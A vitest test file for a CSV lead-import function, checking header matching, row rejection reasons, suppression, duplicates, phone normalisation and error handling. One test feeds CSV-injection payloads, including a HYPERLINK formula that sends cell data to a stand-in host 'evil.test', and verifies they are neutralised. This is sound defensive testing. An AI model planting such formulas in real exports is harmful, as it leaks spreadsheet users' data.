import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Clock } from '../common/clock.ts';
import { newId } from '../common/ids.ts';
import { seededRandom } from '../common/random.ts';
import { freshStore, testBackends, type TestStore } from '../../test/stores.ts';
import { importLeads, type ImportOptions, type ImportProgress } from './import.ts';
import type { ImportIssue } from './reasons.ts';

const FIXTURES = join(import.meta.dirname, '../../test/fixtures/leads');
const T0 = Date.UTC(2025, 2, 1, 12, 0, 0);

/** A clock that only moves when told to. */
function fixedClock(ms: number): Clock & { set(ms: number): void } {
  let now = ms;
  return {
    now: () => now,
    set: (t) => (now = t),
    setTimer: () => ({ cancel: () => undefined }),
    sleep: async () => undefined,
  };
}

const bytes = (text: string) => Readable.from([Buffer.from(text)]);

describe.each(testBackends())('importLeads on %s', (backend) => {
  let store: TestStore;
  let dir: string;
  let n = 0;
  const random = seededRandom('leads-import-test');

  beforeAll(async () => {
    store = await freshStore(backend);
    dir = mkdtempSync(join(tmpdir(), 'cadenza-leads-'));
  });
  afterAll(async () => {
    await store.destroy();
    rmSync(dir, { recursive: true, force: true });
  });

  /** Each test imports into a workspace of its own. */
  async function workspace(): Promise<string> {
    const id = newId(T0 + n++, random);
    await store.db.insertInto('workspace').values({ id, name: `w${n}` }).execute();
    return id;
  }
  const leads = (ws: string) => store.db.selectFrom('lead').selectAll().where('workspace_id', '=', ws).orderBy('email_norm').execute();
  // Every import draws its ids from a stream of its own: two imports sharing a seed and a clock
  // would draw the same ids.
  let runs = 0;
  const run = (ws: string, input: ImportOptions['input'], more: Partial<ImportOptions> = {}) =>
    importLeads(store, { workspaceId: ws, input, clock: fixedClock(T0), random: random.fork(`run${runs++}`), ...more });
  function rejectFile(path: string): Array<Record<string, string>> {
    return parse(readFileSync(path), { bom: true, columns: true, delimiter: [',', ';'] });
  }

  it('matches headers by their synonyms', async () => {
    const ws = await workspace();
    const r = await run(
      ws,
      bytes(
        'E-mail Address,Given name,Surname,Company Name,Job Title,Mobile,Country Code,State,Timezone\n' +
          'Jane@Example.com,Jane,Doe,Acme,VP Sales,+49 30 1234,de,Berlin,europe/berlin\n',
      ),
    );
    expect(r).toMatchObject({ rowsRead: 1, imported: 1, rejected: 0, delimiter: ',' });
    expect(r.columns.map((c) => c.source)).toEqual(Array(9).fill('synonym'));
    expect(await leads(ws)).toMatchObject([
      {
        email: 'Jane@example.com',
        email_norm: 'jane@example.com',
        first_name: 'Jane',
        last_name: 'Doe',
        company: 'Acme',
        title: 'VP Sales',
        phone: '+49 30 1234',
        country: 'DE',
        region: 'Berlin',
        time_zone: 'Europe/Berlin',
        custom: {},
      },
    ]);
  });

  it('follows an explicit mapping, leaving out columns mapped to "-"', async () => {
    const ws = await workspace();
    const r = await run(ws, bytes('Work Mail,Nom,Secret,Extra,Email\nann@example.com,Lee,hunter2,x1,other@example.com\n'), {
      mapping: { 'Work Mail': 'email', Nom: 'last_name', Secret: '-', Extra: 'custom.extra_info' },
    });
    expect(r.imported).toBe(1);
    const [lead] = await leads(ws);
    expect(lead).toMatchObject({ email: 'ann@example.com', last_name: 'Lee', custom: { extra_info: 'x1', email_2: 'other@example.com' } });
    expect(JSON.stringify(lead)).not.toContain('hunter2');
  });

  it('keeps unmatched columns as snake_case custom fields, leaving empty cells out', async () => {
    const ws = await workspace();
    await run(ws, bytes('email,LinkedIn URL,Deal Size ($),leadSource,City\na@example.com,https://li/in/a,"12,000",,Berlin\n'));
    expect((await leads(ws))[0]!.custom).toEqual({ linked_in_url: 'https://li/in/a', deal_size: '12,000', city: 'Berlin' });
  });

  it('stores values that mean something in array or JSON syntax exactly as written', async () => {
    const ws = await workspace();
    const tricky = ['NULL', '{a,b}', 'a"b\\c', "O'Brien", '\\N', '😀 “quotes”', '[1]'];
    const csv = `email,first_name,last_name,company,title,region,phone,note\n"x@example.com",${tricky.map((t) => `"${t.replace(/"/g, '""')}"`).join(',')}\n`;
    const r = await run(ws, bytes(csv));
    expect(r.imported).toBe(1);
    const [lead] = await leads(ws);
    expect([lead!.first_name, lead!.last_name, lead!.company, lead!.title, lead!.region, lead!.phone, lead!.custom.note]).toEqual(tricky);
  });

  it('rejects each kind of bad row with its reason, line and message, and writes them to the reject file', async () => {
    const ws = await workspace();
    await store.db.insertInto('suppression').values({ workspace_id: ws, email_norm: 'gone@example.com', reason: 'hard_bounce' }).execute();
    await run(ws, bytes('email\nexisting@example.com\n'));
    const csv = [
      'email,first_name,country,time_zone,notes', // 1
      'ok@example.com,Ok,US,America/New_York,fine', // 2
      'malformed@example.com,too,few', // 3 malformed_row
      'enc@example.com,J\ufffdrg,,,', // 4 invalid_encoding (U+FFFD, as a bad byte decodes)
      'ctl@example.com,Bell\u0007,,,', // 5 invalid_characters
      `long@example.com,${'x'.repeat(300)},,,`, // 6 too_long
      ',No Email,,,', // 7 missing_email
      'not-an-email,Bad,,,', // 8 invalid_email
      'c@example.com,C,Narnia,,', // 9 invalid_country
      'OK@example.com,Again,,,', // 10 duplicate_in_file
      'Gone@Example.com,Gone,,,', // 11 suppressed
      'existing@example.com,Old,,,', // 12 duplicate
      'tz@example.com,Tz,,Mars/Olympus,', // 13 imported with a warning
    ].join('\n');
    const issues: ImportIssue[] = [];
    const rej = join(dir, 'rejects-each.csv');
    const r = await run(ws, bytes(csv), { rejectFile: rej, onIssue: (i) => issues.push(i) });
    const reasons = {
      malformed_row: 3, invalid_encoding: 4, invalid_characters: 5, too_long: 6, missing_email: 7,
      invalid_email: 8, invalid_country: 9, duplicate_in_file: 10, suppressed: 11, duplicate: 12,
    };
    expect(r).toMatchObject({ rowsRead: 12, imported: 2, updated: 0, rejected: 10, warnings: 1, warningsByReason: { invalid_time_zone: 1 } });
    expect(r.rejectsByReason).toEqual(Object.fromEntries(Object.keys(reasons).map((k) => [k, 1])));
    expect(issues.filter((i) => i.kind === 'rejected').map((i) => [i.reason, i.line])).toEqual(Object.entries(reasons));
    expect(issues.find((i) => i.kind === 'warning')).toMatchObject({ line: 13, reason: 'invalid_time_zone', message: /"Mars\/Olympus"/ });
    expect(r.issues).toEqual(issues);

    const rows = rejectFile(rej);
    expect(Object.keys(rows[0]!)).toEqual(['email', 'first_name', 'country', 'time_zone', 'notes', 'line', 'reason', 'message', 'raw']);
    expect(rows.map((x) => [x.reason, Number(x.line)])).toEqual(Object.entries(reasons));
    const by = Object.fromEntries(rows.map((x) => [x.reason!, x]));
    expect(by.malformed_row).toMatchObject({ email: '', raw: 'malformed@example.com,too,few', message: 'has 3 fields where the header has 5' });
    expect(by.too_long).toMatchObject({ email: 'long@example.com', first_name: 'x'.repeat(300), raw: '' });
    expect(by.suppressed!.message).toBe('gone@example.com is suppressed in this workspace (hard_bounce)');
    expect(by.duplicate_in_file!.message).toBe('ok@example.com already appears on line 2 of this file');
    expect(by.duplicate!.message).toBe('a lead with existing@example.com already exists in this workspace');
    expect(by.invalid_email!.message).toBe(`"not-an-email": has no '@'`);
    expect(by.invalid_country!.message).toMatch(/"Narnia" in column 'country'/);

    expect((await leads(ws)).map((l) => [l.email, l.time_zone])).toEqual([
      ['existing@example.com', null],
      ['ok@example.com', 'America/New_York'],
      ['tz@example.com', null],
    ]);
  });

  it('refuses a suppressed address in every import, whatever its case or padding (promise 6)', async () => {
    const ws = await workspace();
    await store.db.insertInto('suppression').values({ workspace_id: ws, email_norm: 'stop@example.com', reason: 'unsubscribe' }).execute();
    for (const spelled of ['stop@example.com', ' STOP@Example.COM ', 'Stop@example.com']) {
      for (const onDuplicate of ['skip', 'update'] as const) {
        const r = await run(ws, bytes(`email\n${spelled}\n`), { onDuplicate });
        expect(r).toMatchObject({ imported: 0, rejected: 1, rejectsByReason: { suppressed: 1 } });
      }
    }
    expect(await leads(ws)).toEqual([]);
    // Suppression in another workspace does not reach this one.
    const other = await workspace();
    expect((await run(other, bytes('email\nstop@example.com\n'))).imported).toBe(1);
  });

  it('keeps the first valid row of an address the file holds twice, also across batches', async () => {
    const ws = await workspace();
    const r = await run(ws, bytes('email,first_name\nA@example.com,First\nb@example.com,B\nc@example.com,C\nd@example.com,D\na@EXAMPLE.com,Second\n'), {
      batchSize: 2,
    });
    expect(r).toMatchObject({ imported: 4, rejected: 1, rejectsByReason: { duplicate_in_file: 1 } });
    expect(r.issues[0]).toMatchObject({ line: 6, message: 'a@example.com already appears on line 2 of this file' });
    expect((await leads(ws)).find((l) => l.email_norm === 'a@example.com')!.first_name).toBe('First');
  });

  it('a row refused for its content does not claim its address: a later valid row with it is imported', async () => {
    const ws = await workspace();
    const r = await run(ws, bytes('email,country\ndup@example.com,Narnia\ndup@example.com,FR\n'));
    expect(r).toMatchObject({ imported: 1, rejectsByReason: { invalid_country: 1 } });
    expect((await leads(ws))[0]!.country).toBe('FR');
  });

  it("onDuplicate 'skip' (the default) leaves an existing lead alone and rejects the row as 'duplicate'", async () => {
    const ws = await workspace();
    await run(ws, bytes('email,first_name\nann@example.com,Ann\n'));
    const r = await run(ws, bytes('email,first_name\nANN@example.com,Annie\nnew@example.com,New\n'));
    expect(r).toMatchObject({ imported: 1, updated: 0, rejected: 1, rejectsByReason: { duplicate: 1 } });
    expect((await leads(ws)).map((l) => l.first_name)).toEqual(['Ann', 'New']);
  });

  it("onDuplicate 'update' writes the non-empty fields, merges custom fields, and counts unchanged rows", async () => {
    const ws = await workspace();
    const clock = fixedClock(T0);
    await run(ws, bytes('email,first_name,last_name,company,time_zone,city,tier\nann@example.com,Ann,Lee,Acme,Europe/Paris,Paris,gold\nbob@example.com,Bob,Ray,Beta,,,\n'), { clock });
    clock.set(T0 + 60_000);
    const r = await run(
      ws,
      bytes('email,first_name,last_name,company,time_zone,city,source\nAnn@Example.com,Annie,,Acme Corp,Not/AZone,,webinar\nbob@example.com,Bob,Ray,,,,\nnew@example.com,New,,,,,\n'),
      { onDuplicate: 'update', clock },
    );
    expect(r).toMatchObject({ rowsRead: 3, imported: 1, updated: 1, unchanged: 1, rejected: 0, warnings: 1 });
    const [ann, bob, added] = await leads(ws);
    expect(ann).toMatchObject({
      email: 'ann@example.com', // the address as first imported
      first_name: 'Annie',
      last_name: 'Lee', // an empty cell never erases
      company: 'Acme Corp',
      time_zone: 'Europe/Paris', // an invalid zone is dropped, not written over the valid one
      custom: { city: 'Paris', tier: 'gold', source: 'webinar' },
    });
    expect(ann!.updated_at.getTime()).toBe(T0 + 60_000);
    expect(ann!.created_at.getTime()).toBe(T0);
    expect(bob!.updated_at.getTime()).toBe(T0); // nothing changed, nothing written
    expect(added).toMatchObject({ email: 'new@example.com', created_at: new Date(T0 + 60_000) });
  });

  it('keeps each number as written, with its E.164 form; a flagged number is imported with its reason and counted by reason', async () => {
    const ws = await workspace();
    await store.db.updateTable('workspace').set({ country: 'US' }).where('id', '=', ws).execute();
    const r = await run(
      ws,
      bytes(
        'email,phone,country\n' +
          'gb@example.com,020 7946 0958,GB\n' +
          // No country of its own: read in the workspace's (US); the extension is kept in the original.
          'us@example.com,Phone: (213) 373-4253 ext. 12,\n' +
          'short@example.com,123,DE\n' +
          // A country with no numbering plan in the metadata (Antarctica): the workspace's reads the number.
          'aq@example.com,2133734253,AQ\n' +
          'none@example.com,,FR\n',
      ),
    );
    expect(r).toMatchObject({ imported: 5, rejected: 0, phonesFlagged: 1, phonesFlaggedByReason: { too_short: 1 } });
    const byEmail = new Map((await leads(ws)).map((l) => [l.email, l]));
    expect(byEmail.get('gb@example.com')).toMatchObject({ phone: '020 7946 0958', phone_e164: '+442079460958', phone_status: 'valid', phone_reason: null });
    expect(byEmail.get('us@example.com')).toMatchObject({ phone: 'Phone: (213) 373-4253 ext. 12', phone_e164: '+12133734253', phone_status: 'valid' });
    expect(byEmail.get('short@example.com')).toMatchObject({ phone: '123', phone_e164: null, phone_status: 'flagged', phone_reason: 'too short for DE' });
    expect(byEmail.get('aq@example.com')).toMatchObject({ phone_e164: '+12133734253', phone_status: 'valid' });
    expect(byEmail.get('none@example.com')).toMatchObject({ phone: null, phone_e164: null, phone_status: null, phone_reason: null });
  });

  it("onDuplicate 'update' reads a new number in the stored country, and the stored number in a new country", async () => {
    const ws = await workspace();
    await store.db.updateTable('workspace').set({ country: 'US' }).where('id', '=', ws).execute();
    await run(ws, bytes('email,phone,country\nfr@example.com,01 23 45 67 89,FR\nmove@example.com,06 12 34 56 78,FR\nkeep@example.com,06 12 34 56 78,FR\n'));
    const r = await run(
      ws,
      // fr: a new number, no country column value: read in FR (stored), not the workspace's US.
      // move: a new country, no number: the stored French number read in GB is of a GB length, in no GB range.
      // keep: neither: the stored verdict stays, and the row changes nothing.
      bytes('email,phone,country,first_name\nfr@example.com,06 98 76 54 32,,\nmove@example.com,,GB,\nkeep@example.com,,,\n'),
      { onDuplicate: 'update' },
    );
    expect(r).toMatchObject({ updated: 2, unchanged: 1, phonesFlagged: 1 });
    const [fr, keep, move] = await leads(ws);
    expect(fr).toMatchObject({ phone: '06 98 76 54 32', country: 'FR', phone_e164: '+33698765432', phone_status: 'valid' });
    expect(move).toMatchObject({ phone: '06 12 34 56 78', country: 'GB', phone_status: 'flagged', phone_e164: '+44612345678' });
    expect(move!.phone_reason).toMatch(/^possible but not valid: .*GB/);
    expect(keep).toMatchObject({ phone_e164: '+33612345678', phone_status: 'valid' });
  });

  it('takes ids from the injected random source and times from the injected clock', async () => {
    const ws = await workspace();
    await run(ws, bytes('email\na@example.com\n'), { random: seededRandom('ids'), clock: fixedClock(T0 + 5) });
    const [lead] = await leads(ws);
    expect(lead!.id).toBe(newId(T0 + 5, seededRandom('ids')));
    expect(lead!.created_at.getTime()).toBe(T0 + 5);
  });

  it('reads what Excel writes: BOM, CRLF, semicolons, doubled quotes, country names', async () => {
    const ws = await workspace();
    const rej = join(dir, 'excel-rejects.csv');
    const r = await run(ws, join(FIXTURES, 'excel-bom-crlf-semicolon.csv'), { rejectFile: rej });
    expect(r).toMatchObject({ rowsRead: 3, imported: 3, rejected: 0, delimiter: ';', encoding: 'utf-8' });
    expect((await leads(ws)).map((l) => [l.email, l.company, l.last_name, l.country, l.time_zone, l.custom])).toEqual([
      ['jane@example.com', 'Acme; Inc.', 'Doe', 'DE', 'Europe/Berlin', { deal_size: '12.000' }],
      ['lou@example.com', 'Gamma', 'Quote "Q" Moe', 'FR', null, { deal_size: '3' }],
      ['rick@example.com', 'Beta', 'Roe', 'US', 'America/Chicago', {}],
    ]);
    // The reject file follows the input: BOM and semicolons, so Excel opens it the same way.
    const head = readFileSync(rej);
    expect(head.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(head.toString('utf8').slice(1)).toBe('E-mail;First Name;Last Name;Company Name;Country;Time Zone;Deal Size (€);line;reason;message;raw\r\n');
  });

  it('reads quoted fields holding line breaks, numbering rows by their first line', async () => {
    const ws = await workspace();
    const issues: ImportIssue[] = [];
    const r = await run(ws, join(FIXTURES, 'quoted-newlines.csv'), { onIssue: (i) => issues.push(i) });
    expect(r).toMatchObject({ rowsRead: 3, imported: 3, rejected: 0 });
    expect((await leads(ws)).map((l) => [l.first_name, l.last_name, l.custom])).toEqual([
      ['Ann', 'Lee', { notes: 'line one\nline two, with a comma\nline three' }],
      ['Bob', 'Ray Jr.', { notes: 'one line' }],
      ['Cy', 'Doe', {}],
    ]);
  });

  it('imports the good rows of a hostile file and rejects the rest, without throwing', async () => {
    const ws = await workspace();
    const rej = join(dir, 'hostile-rejects.csv');
    const r = await run(ws, join(FIXTURES, 'hostile-mixed-garbage.csv'), { rejectFile: rej });
    expect((await leads(ws)).map((l) => l.email).sort()).toEqual([
      'good1@example.com',
      'good2@example.com',
      'good3@example.com',
      'good4@example.com',
      'good5@exämple.com',
      'good6@example.com',
    ]);
    const expected: Array<[number, string]> = [
      [3, 'invalid_characters'],
      [6, 'malformed_row'],
      [9, 'too_long'],
      [10, 'malformed_row'],
      [11, 'malformed_row'],
      [12, 'invalid_encoding'],
      [15, 'invalid_characters'],
      [16, 'malformed_row'],
      [18, 'invalid_email'],
      [19, 'malformed_row'],
    ];
    expect(r).toMatchObject({ rowsRead: 16, imported: 6, rejected: expected.length });
    const rows = rejectFile(rej);
    expect(rows.map((x) => [Number(x.line), x.reason])).toEqual(expected);
    // Malformed rows keep their source text: nothing is lost (promise 8).
    expect(rows.find((x) => x.line === '6')!.raw).toBe('bad-quote@example.com,"Unclosed,Lee,Acme,stray quote opens here');
    expect(rows.find((x) => x.line === '19')!.raw).toBe('eof@example.com,"never closed,X,Y,Z');
  });

  it('reports progress after every batch, every count only growing, the last one equal to the result', async () => {
    const ws = await workspace();
    const path = join(dir, 'progress.csv');
    const body = Array.from({ length: 20 }, (_, i) => (i % 5 === 4 ? `bad${i}\n` : `p${i}@example.com,P${i}\n`)).join('');
    writeFileSync(path, `email,first_name\n${body}`);
    const seen: ImportProgress[] = [];
    const r = await run(ws, path, { batchSize: 3, onProgress: (p) => seen.push({ ...p }) });
    expect(seen.length).toBe(7); // six full batches of 3, then the last 2 rows at the end
    for (let i = 1; i < seen.length; i++) {
      for (const k of ['rowsRead', 'imported', 'updated', 'unchanged', 'rejected', 'warnings', 'bytesRead'] as const) {
        expect(seen[i]![k], `${k} at ${i}`).toBeGreaterThanOrEqual(seen[i - 1]![k]);
      }
      const p = seen[i]!;
      expect(p.imported + p.updated + p.unchanged + p.rejected).toBeLessThanOrEqual(p.rowsRead);
    }
    const last = seen.at(-1)!;
    expect(last).toEqual({
      rowsRead: r.rowsRead,
      imported: r.imported,
      updated: r.updated,
      unchanged: r.unchanged,
      rejected: r.rejected,
      warnings: r.warnings,
      phonesFlagged: r.phonesFlagged,
      bytesRead: statSync(path).size,
      totalBytes: statSync(path).size,
    });
    expect(r).toMatchObject({ rowsRead: 20, imported: 16, rejected: 4 });
  });

  it('imports a corrected reject file, leaving its bookkeeping columns out', async () => {
    const ws = await workspace();
    const rej = join(dir, 'round1.csv');
    await run(ws, bytes('email,first_name\nok@example.com,Ok\nfix-me,Fix\n'), { rejectFile: rej });
    writeFileSync(rej, readFileSync(rej, 'utf8').replace('fix-me', 'fixed@example.com'));
    const rej2 = join(dir, 'round2.csv');
    const r = await run(ws, rej, { rejectFile: rej2 });
    expect(r).toMatchObject({ imported: 1, rejected: 0 });
    expect(r.columns.filter((c) => c.source === 'reject_file').map((c) => c.header)).toEqual(['line', 'reason', 'message', 'raw']);
    expect((await leads(ws)).find((l) => l.email === 'fixed@example.com')).toMatchObject({ first_name: 'Fix', custom: {} });
    // The second reject file has the same shape as the first, not the bookkeeping twice.
    expect(readFileSync(rej2, 'utf8')).toBe('email,first_name,line,reason,message,raw\r\n');
  });

  it('neutralises formula-looking cells in the reject file (CSV injection), and a corrected file imports them as they were', async () => {
    const ws = await workspace();
    const rej = join(dir, 'formula1.csv');
    const hostile = ['=HYPERLINK("http://evil.test/?"&A1)', '+1 555 0100', '-2+3', '@SUM(A1)'];
    await run(ws, bytes(`email,first_name\n${hostile.map((h, i) => `fix-me-${i},"${h.replace(/"/g, '""')}"`).join('\n')}\n`), { rejectFile: rej });
    const rows = rejectFile(rej);
    expect(rows.map((r) => r.first_name)).toEqual(hostile.map((h) => `'${h}`));
    // Every cell of the file, the message and raw columns included, starts harmlessly.
    for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@]/);
    writeFileSync(rej, readFileSync(rej, 'utf8').replace(/fix-me-(\d)/g, 'fixed$1@example.com'));
    const r = await run(ws, rej);
    expect(r).toMatchObject({ imported: 4, rejected: 0 });
    expect((await leads(ws)).map((l) => l.first_name)).toEqual(hostile);
  });

  it('answers input it cannot use with INVALID_INPUT and a clear message, writing nothing', async () => {
    const ws = await workspace();
    const empty = join(dir, 'empty.csv');
    writeFileSync(empty, '');
    const noEmail = join(dir, 'no-email.csv');
    writeFileSync(noEmail, 'name,company\nJane,Acme\n');
    const cases: Array<[ImportOptions['input'], Partial<ImportOptions>, RegExp]> = [
      [join(dir, 'missing.csv'), {}, /cannot open the input file .*missing\.csv: no such file/],
      [dir, {}, /not a regular file/],
      [empty, {}, /empty/],
      [noEmail, {}, /no column holds the email: found "name", "company"/],
      [bytes('jane@example.com,Jane\n'), {}, /needs a header line/],
      [bytes('email,"name\n'), {}, /header \(line 1\) cannot be read: a quote opened on this line is never closed/],
      [bytes(`${Array.from({ length: 600 }, (_, i) => `c${i}`).join(',')}\n`), {}, /600 columns/],
      [bytes('email\na@example.com\n'), { mapping: { Email: 'mail' } }, /'mail' is not a lead field/],
      [bytes('email\na@example.com\n'), { batchSize: 0 }, /batchSize/],
      [bytes('email\na@example.com\n'), { onDuplicate: 'merge' as 'skip' }, /onDuplicate/],
      [bytes('email\na@example.com\n'), { rejectFile: join(dir, 'no/such/dir/rejects.csv') }, /cannot write the reject file/],
      [noEmail, { rejectFile: noEmail }, /cannot be the input/],
      [42 as unknown as string, {}, /file path or a readable stream/],
    ];
    for (const [input, more, message] of cases) {
      await expect(run(ws, input, more), String(message)).rejects.toMatchObject({ code: 'INVALID_INPUT', message: expect.stringMatching(message) });
    }
    await expect(run('not-a-uuid', bytes('email\na@example.com\n'))).rejects.toMatchObject({ code: 'INVALID_INPUT' });
    await expect(run(newId(T0, seededRandom('nobody')), bytes('email\na@example.com\n'))).rejects.toMatchObject({ code: 'NOT_FOUND' });
    expect(await leads(ws)).toEqual([]);
  });

  it('passes a read error in the middle of a stream on as INVALID_INPUT, keeping the batches already written', async () => {
    const ws = await workspace();
    async function* chunks() {
      yield Buffer.from('email\na@example.com\nnope\nb@example.com\n');
      yield Buffer.from('c@example.com\n');
      throw new Error('connection reset');
    }
    const rej = join(dir, 'interrupted.csv');
    await expect(run(ws, Readable.from(chunks()), { batchSize: 2, rejectFile: rej })).rejects.toMatchObject({
      code: 'INVALID_INPUT',
      message: expect.stringMatching(/cannot read the input: connection reset/),
    });
    expect((await leads(ws)).map((l) => l.email)).toEqual(['a@example.com', 'b@example.com', 'c@example.com']);
    // The rejects of the batches written are in the reject file when the import fails.
    expect(rejectFile(rej)).toMatchObject([{ email: 'nope', line: '3', reason: 'invalid_email' }]);
  });
  it('passes a database error on after flushing the reject file, leaving no stream or query behind', async () => {
    const ws = await workspace();
    const clock = fixedClock(T0 + 777);
    await run(ws, bytes('email\nfirst@example.com\n'), { clock, random: seededRandom('same') });
    // The same id stream and clock give the same id: the primary key refuses the second lead.
    const rej = join(dir, 'db-error.csv');
    const err = await run(ws, bytes('email\nbad\nsecond@example.com\n'), { clock, random: seededRandom('same'), rejectFile: rej }).catch((e: unknown) => e);
    expect(String((err as Error).message)).toMatch(/lead_pkey/);
    expect(rejectFile(rej)).toMatchObject([{ email: 'bad', reason: 'invalid_email' }]);
    expect((await leads(ws)).map((l) => l.email)).toEqual(['first@example.com']);
  });
});
